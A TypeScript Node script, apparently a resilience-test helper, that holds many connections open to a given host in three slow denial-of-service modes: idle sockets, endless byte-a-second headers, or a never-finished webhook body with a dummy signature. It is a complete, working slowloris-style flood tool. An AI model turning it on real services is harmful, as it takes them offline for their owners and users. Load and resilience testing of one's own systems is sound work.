/**
 * Callers who mean harm by doing next to nothing. Arguments: KIND CONNECTIONS HOST.
 *
 *   idle     connections that never say a word
 *   headers  requests whose headers never end, a byte of them a second
 *   body     announced bodies that never come, a byte a second, under the shape of a signature
 *
 * Prints a line once all are there, keeps their number up, and goes on until it is ended.
 */
import { connect as connectPlain, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'

const [kind = '', count = '0', host = ''] = process.argv.slice(2)
const wanted = Number(count)
/** Handshakes at the same time: the flood is about what stays open. */
const AT_ONCE = kind === 'idle' ? 1_000 : 200
const DROP_EVERY_MS = 1_000

const HEADERS = `GET /health HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `
const BODY = [
  `POST /webhook/meta HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json`,
  `X-Hub-Signature-256: sha256=${'0'.repeat(64)}\r\nContent-Length: 1000000\r\n\r\n{`,
].join('\r\n')

const open = new Set<Socket>()
let opening = 0
let isTold = false

function opened(socket: Socket): void {
  opening -= 1
  open.add(socket)
  if (kind === 'headers') socket.write(HEADERS)
  if (kind === 'body') socket.write(BODY)
  fill()
  if (open.size < wanted || isTold) return
  isTold = true
  process.stdout.write(`${open.size}\n`)
}

function fill(): void {
  while (open.size + opening < wanted && opening < AT_ONCE) {
    opening += 1
    const socket =
      kind === 'idle'
        ? connectPlain({ host, port: 443 }, () => opened(socket))
        : // Whom it is annoying is none of its concern.
          connectTls({ host, port: 443, servername: host, rejectUnauthorized: false }, () => opened(socket))
    socket
      .on('error', () => {})
      .on('close', () => {
        if (!open.delete(socket)) opening -= 1
        // Refused ones are tried again, but not in a frenzy.
        setTimeout(fill, 50)
      })
      .resume()
  }
}

fill()
if (kind !== 'idle') setInterval(() => open.forEach((socket) => void socket.write('x')), DROP_EVERY_MS)
